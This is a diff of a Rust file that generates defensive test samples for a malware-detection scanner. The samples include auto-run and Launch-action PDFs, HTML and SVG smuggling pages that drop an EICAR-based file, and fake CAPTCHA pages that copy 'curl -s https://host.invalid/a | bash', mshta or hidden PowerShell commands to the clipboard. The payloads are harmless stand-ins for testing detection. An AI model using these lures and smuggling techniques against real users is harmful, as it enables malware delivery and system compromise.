@@ -1,15 +1,16 @@
 //! A13, A16, A17, A18: PDF documents, pages, pictures that are pages.
 
+use crate::Standin;
 use crate::build::page::{html, pdf, pdf_of, pdf_stream};
 use crate::build::{base64, eicar, mail, zip};
-use crate::Standin;
 
 const PAGES: &str = "detect/pages";
 const PDFS: &str = "detect/pdfs";
 const LEAVES: &str = "<< /Type /Pages /Kids [] /Count 0 >>";
 
 pub(super) fn all() -> Vec<Standin> {
-    let document = |name, what, catalog: &str| Standin::new("A13", PDFS, name, what, pdf(&[catalog, LEAVES])).kind("pdf");
+    let document =
+        |name, what, catalog: &str| Standin::new("A13", PDFS, name, what, pdf(&[catalog, LEAVES])).kind("pdf");
     let action = |action: &str| format!("<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> >>");
     let embedded = pdf_of(&[
         b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.com) 3 0 R] >> >> >>".to_vec(),
@@ -31,26 +32,30 @@ pub(super) fn all() -> Vec<Standin> {
     let clipboard = "<p>To prove that you are human: press <b>Win + R</b>, then <b>Ctrl + V</b>, then Enter.</p><button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c echo hello')\">I am not a robot</button>";
     let command = "<h1>Verification</h1><p>Press Windows key + R, paste with CTRL+V and press OK.</p><script>function copy() { const t = document.createElement('textarea'); t.value = 'mshta https://host.invalid/a'; document.body.append(t); t.select(); document.execCommand('copy'); }</script><button onclick=\"copy()\">Verify</button>";
     let terminal = "<p>Open Terminal, paste this command and press Return:</p><button onclick=\"navigator.clipboard.writeText('curl -s https://host.invalid/a | bash')\">Copy</button>";
-    let svg = |inner: &str| format!("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">{inner}</svg>").into_bytes();
-    let mht = format!("From: <Saved>\r\nSubject: page\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"; type=\"text/html\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: file:///a.htm\r\n\r\n<html><body>see</body></html>\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Location: file:///a.com\r\n\r\n{coded}\r\n--b--\r\n");
+    let svg = |inner: &str| {
+        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">{inner}</svg>").into_bytes()
+    };
+    let mht = format!(
+        "From: <Saved by Stand-in>\r\nSubject: page\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"; type=\"text/html\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: file:///a.htm\r\n\r\n<html><body>see</body></html>\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Location: file:///a.com\r\n\r\n{coded}\r\n--b--\r\n"
+    );
     vec![
-        document("script.pdf", "a script that runs when the document opens", &action("/S /JavaScript /JS (app.alert\\(1\\))")).finds("pdfs.runs-by-itself").held(),
-        document("launch.pdf", "an action that launches a program", &action("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>")).finds("pdfs.launch").technique("T1204.002").blocked(),
+        document("script.pdf", "a script that runs when the document opens", &action("/S /JavaScript /JS (app.alert\\(1\\))")).finds("pdf.runs-by-itself").held(),
+        document("launch.pdf", "an action that launches a program", &action("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>")).finds("pdf.launch").technique("T1204.002").held(),
         document("share.pdf", "an action that goes to a share", &action("/S /GoToR /F (\\\\\\\\host.invalid\\\\share\\\\a.pdf) /D [0 /Fit]")).technique("T1187").held(),
-        document("hex.pdf", "an action under a name in hexadecimal", "<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#4aavaScript /JS <6170702e616c657274283129> >> >>").finds("pdfs.runs-by-itself").held(),
+        document("hex.pdf", "an action under a name in hexadecimal", "<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#4aavaScript /JS <6170702e616c657274283129> >> >>").finds("pdf.runs-by-itself").held(),
         Standin::new("A13", "formats/pdf", "attached.pdf", "an embedded file", embedded).payload("a.com"),
         Standin::new("A13", PDFS, "export.pdf", "a script that opens an embedded file", in_stream).kind("pdf").held(),
-        smuggled("atob.html", "a page that assembles a file from base64", format!("<a id=\"l\" download=\"a.com\">wait</a><script>var d = atob(\"{coded}\"); var b = new Blob([d], {{type: 'octet/stream'}}); l.href = URL.createObjectURL(b); l.click();</script>")).payload("a.com"),
+        smuggled("atob.html", "a page that assembles a file from base64", format!("<a id=\"l\" download=\"a.com\">wait</a><script>var d = atob(\"{coded}\"); var b = new Blob([d], {{type: 'octet/stream'}}); l.href = URL.createObjectURL(b); l.click();</script>")).payload(""),
         smuggled("data.html", "a page with a data address and a download name", format!("<a href=\"data:application/octet-stream;base64,{coded}\" download=\"a.com\" id=\"l\">wait</a><script>document.getElementById('l').click()</script>")),
         smuggled("bytes.html", "a page that assembles a file from numbers", format!("<script>var b = new Uint8Array([{}]); var u = URL.createObjectURL(new Blob([b])); var l = document.createElement('a'); l.href = u; l.download = 'a.com'; l.click();</script>", numbers.join(","))),
         smuggled("save.html", "a page that saves through msSaveBlob", format!("<script>var d = \"{coded}\"; navigator.msSaveOrOpenBlob(new Blob([atob(d)]), 'a.com');</script>")),
         Standin::new("A16", "formats/html", "data-link.html", "a payload in a data address", html("", &format!("<a href=\"data:application/octet-stream;base64,{coded}\">a</a>"))).payload("data"),
-        Standin::new("A17", PAGES, "robot.html", "a page that asks to paste into Win+R", html("", clipboard)).technique("T1204.004").blocked(),
-        Standin::new("A17", PAGES, "verify.html", "a page that copies mshta by execCommand", html("", command)).technique("T1204.004").blocked(),
-        Standin::new("A17", PAGES, "terminal.html", "a page that asks to paste into a terminal", html("", terminal)).technique("T1204.004").blocked(),
-        Standin::new("A18", "formats/html", "title.svg", "an SVG with a script", svg("<script>document.title = 'hello'</script>")).kind("svg").part("script-1", "js-embedded"),
+        Standin::new("A17", PAGES, "robot.html", "a page that asks to paste into Win+R", html("", clipboard)).technique("T1204.004").held(),
+        Standin::new("A17", PAGES, "verify.html", "a page that copies mshta by execCommand", html("", command)).technique("T1204.004").held(),
+        Standin::new("A17", PAGES, "terminal.html", "a page that asks to paste into a terminal", html("", terminal)).technique("T1204.004").held(),
+        Standin::new("A18", "formats/html", "title.svg", "an SVG with a script", svg("<script>document.title = 'hello'</script>")).kind("svg").part("", "js-embedded").technique("T1027.017").held(),
         Standin::new("A18", PAGES, "page.svg", "an SVG that carries a page which assembles a file", svg(&format!("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><a id=\"l\" download=\"a.com\" href=\"data:application/octet-stream;base64,{coded}\">a</a><script>document.getElementById('l').click()</script></body></foreignObject>"))).kind("svg").technique("T1027.017").blocked(),
         Standin::new("A18", "formats/mail", "page.mht", "an MHT with a payload", mht.into()).kind("mht").payload("a.com"),
-        Standin::new("A18", "formats/mail", "offer.eml", "a mail with an archive with a payload", mail::with_attachment("See the attachment.", "offer.zip", &zip::of(&[("offer.com", &eicar())]))).kind("eml").technique("T1566.001").payload("offer.com"),
+        Standin::new("A18", "formats/mail", "offer.eml", "a mail with an archive with a payload", mail::with_attachment("See the attachment.", "offer.zip", &zip::of(&[("offer.com", &eicar())]))).kind("eml").payload("offer.com"),
     ]
 }
